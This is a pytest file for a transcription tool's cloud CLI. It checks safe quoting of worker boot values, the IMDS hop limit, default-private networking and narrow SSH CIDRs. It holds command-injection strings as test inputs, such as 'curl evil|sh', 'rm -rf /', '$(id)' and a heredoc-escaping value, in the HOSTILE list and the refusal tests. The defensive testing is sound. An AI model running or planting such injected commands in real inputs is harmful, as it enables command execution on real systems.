"""What reaches a worker's boot: quoted values, a PEP 440 version, the operator's model
allowlists, no public address unless asked, IMDS hop limit 1, a narrow SSH source."""

from __future__ import annotations

import base64
import subprocess
from pathlib import Path

import pytest

from tests.cloud.helpers import AMI, BUCKET, STACK, boto, cli, cli_json

LT = f"transcriber-{STACK}-worker"
HOSTILE = ["tiny$(touch /tmp/pwned)", "a'b; curl evil|sh", "`id`", "/models/my pipeline"]


@pytest.fixture
def infra(aws: str) -> None:
    cli_json("infra", "up", "--stack", STACK)
    # moto ignores the bucket policy's Conditions and denies every object call (docs/cloud.md).
    boto("s3").delete_bucket_policy(Bucket=BUCKET)


def fleet_up(*args: str, wheel: str | None = None) -> subprocess.CompletedProcess:
    """`fleet up` of 0.1.0; with ``wheel`` (the session's build) it is not built again."""
    shipped = ("--wheel", wheel) if wheel else ()
    return cli("fleet", "up", "--stack", STACK, "--ami", AMI, "--version", "0.1.0", *shipped,
               *args)  # fmt: skip


def template() -> dict:
    return boto("ec2").describe_launch_template_versions(
        LaunchTemplateName=LT, Versions=["$Latest"]
    )["LaunchTemplateVersions"][0]["LaunchTemplateData"]


def env_as_bash_reads_it(script: str, tmp_path: Path, *names: str) -> list[str]:
    """Source the env file the user data writes, as the boot's shell would, and print each
    variable NUL-terminated."""
    body = script.split("<<'ENV'\n", 1)[1].split("\nENV\n", 1)[0]
    env_file = tmp_path / "transcriber.env"
    env_file.write_text(body + "\n")
    printed = "".join(f'printf "%s\\0" "${name}";' for name in names)
    proc = subprocess.run(
        ["bash", "-c", f"set -a; . {env_file}; {printed}"],
        capture_output=True, text=True, env={"PATH": "/usr/bin:/bin"}, cwd=tmp_path,
    )  # fmt: skip
    assert proc.returncode == 0, proc.stderr
    return proc.stdout.split("\0")[:-1]


def test_allowlists_reach_the_workers_literally_and_the_script_parses(
    infra: None, tmp_path: Path, release_wheel: str
) -> None:
    args = [a for name in HOSTILE for a in ("--allow-model", name)]
    proc = fleet_up(*args, "--allow-diarization-model", "pyannote/speaker-diarization-3.1",
                    wheel=release_wheel)  # fmt: skip
    assert proc.returncode == 0, proc.stderr
    script = base64.b64decode(template()["UserData"]).decode()
    (tmp_path / "user-data.sh").write_text(script)
    syntax = subprocess.run(["bash", "-n", str(tmp_path / "user-data.sh")], capture_output=True)
    assert syntax.returncode == 0, syntax.stderr
    models, diarization, bucket = env_as_bash_reads_it(
        script, tmp_path, "TRANSCRIBER_WORKER_MODELS", "TRANSCRIBER_WORKER_DIARIZATION_MODELS",
        "TRANSCRIBER_BUCKET",
    )  # fmt: skip
    assert models == ",".join(HOSTILE)
    assert diarization == "pyannote/speaker-diarization-3.1"
    assert bucket == BUCKET
    assert not (tmp_path / "pwned").exists() and not Path("/tmp/pwned").exists()
    # One line per variable: nothing forged a line of its own.
    body = script.split("<<'ENV'\n", 1)[1].split("\nENV\n", 1)[0]
    assert [line.split("=", 1)[0] for line in body.splitlines()] == [
        "TRANSCRIBER_STACK", "TRANSCRIBER_REGION", "AWS_REGION", "TRANSCRIBER_BUCKET",
        "TRANSCRIBER_QUEUE_URL", "HF_HOME", "TRANSCRIBER_WORKER_MODELS",
        "TRANSCRIBER_WORKER_DIARIZATION_MODELS",
    ]  # fmt: skip
    # `fleet update` rebuilds the options from the template: the allowlists stay.
    from transcriber_cli.cloud.rollout import current_options
    from transcriber_cli.cloud.stack import Stack

    options = current_options(Stack.connect(STACK, "us-east-1", None))
    assert options.allow_models == tuple(HOSTILE)
    assert options.allow_diarization_models == ("pyannote/speaker-diarization-3.1",)
    assert options.public_ip is False


@pytest.mark.parametrize(
    ("flag", "value"),
    [
        ("--version", "1.0; curl evil|sh"),
        ("--version", "1.0\nrm -rf /"),
        ("--version", "$(id)"),
        ("--allow-model", "tiny\nENV\ncurl evil|sh"),
        ("--allow-model", "tiny,large-v3"),
        ("--allow-diarization-model", " "),
    ],
)
def test_hostile_values_are_refused_before_anything_is_made(
    infra: None, flag: str, value: str
) -> None:
    proc = fleet_up(flag, value)
    assert proc.returncode == 2, proc.stderr
    lines = proc.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith(f"error: invalid {flag} "), lines
    found = boto("ec2").describe_launch_templates(
        Filters=[{"Name": "launch-template-name", "Values": [LT]}]
    )["LaunchTemplates"]
    assert found == []


def test_public_ip_only_when_asked_and_imds_hop_limit_1(infra: None, release_wheel: str) -> None:
    assert fleet_up(wheel=release_wheel).returncode == 0
    data = template()
    assert data["MetadataOptions"] == {
        "HttpTokens": "required", "HttpEndpoint": "enabled", "HttpPutResponseHopLimit": 1
    }  # fmt: skip
    assert [i["AssociatePublicIpAddress"] for i in data["NetworkInterfaces"]] == [False]
    assert "SecurityGroupIds" not in data  # the group rides on the interface
    proc = fleet_up("--public-ip", "--json", wheel=release_wheel)
    assert proc.returncode == 0, proc.stderr
    assert [i["AssociatePublicIpAddress"] for i in template()["NetworkInterfaces"]] == [True]


@pytest.mark.parametrize("cidr", ["0.0.0.0/1", "10.0.0.0/8", "10.0.0.0/15", "2001:db8::/32"])
def test_wide_admin_cidrs_are_refused(aws: str, cidr: str) -> None:
    proc = cli("infra", "up", "--stack", STACK, "--admin-cidr", cidr, "--dry-run")
    assert proc.returncode == 2
    (line,) = proc.stderr.strip().splitlines()
    assert line.startswith(f"error: --admin-cidr {cidr} opens SSH to ") and "refused" in line


def test_narrow_ipv4_and_ipv6_sources_are_opened(aws: str) -> None:
    cli_json("infra", "up", "--stack", STACK, "--admin-cidr", "2001:db8:1::/48")
    group = boto("ec2").describe_security_groups(Filters=[{"Name": "group-name", "Values": [LT]}])[
        "SecurityGroups"
    ][0]
    (rule,) = group["IpPermissions"]
    assert (rule["FromPort"], rule["ToPort"]) == (22, 22)
    assert [r["CidrIpv6"] for r in rule["Ipv6Ranges"]] == ["2001:db8:1::/48"]
    assert rule["IpRanges"] == []
    again = cli_json("infra", "up", "--stack", STACK, "--admin-cidr", "2001:db8:1::/48")
    assert again["changed"] is False
    cli_json("infra", "up", "--stack", STACK, "--admin-cidr", "198.51.0.0/16")
    (rule,) = boto("ec2").describe_security_groups(GroupIds=[group["GroupId"]])["SecurityGroups"][
        0
    ]["IpPermissions"]
    assert [r["CidrIp"] for r in rule["IpRanges"]] == ["198.51.0.0/16"]


def test_subnets_that_only_reach_an_internet_gateway_need_public_ip(
    infra: None, release_wheel: str
) -> None:
    """AWS's default VPC routes its default subnets to an internet gateway (moto's has no
    such route until one is added): workers without a public address could never boot
    there, so `fleet up` says so instead of paying for them."""
    ec2 = boto("ec2")
    vpc = ec2.describe_vpcs(Filters=[{"Name": "isDefault", "Values": ["true"]}])["Vpcs"][0]
    gateway = ec2.create_internet_gateway()["InternetGateway"]["InternetGatewayId"]
    ec2.attach_internet_gateway(InternetGatewayId=gateway, VpcId=vpc["VpcId"])
    (main,) = ec2.describe_route_tables(
        Filters=[{"Name": "vpc-id", "Values": [vpc["VpcId"]]},
                 {"Name": "association.main", "Values": ["true"]}]
    )["RouteTables"]  # fmt: skip
    ec2.create_route(RouteTableId=main["RouteTableId"], DestinationCidrBlock="0.0.0.0/0",
                     GatewayId=gateway)  # fmt: skip
    proc = fleet_up(wheel=release_wheel)
    assert proc.returncode == 2
    (line,) = proc.stderr.strip().splitlines()
    assert "reach the internet only through an internet gateway" in line and "--public-ip" in line
    assert (
        boto("ec2").describe_launch_templates(
            Filters=[{"Name": "launch-template-name", "Values": [LT]}]
        )["LaunchTemplates"]
        == []
    )  # nothing made
    assert fleet_up("--public-ip", wheel=release_wheel).returncode == 0
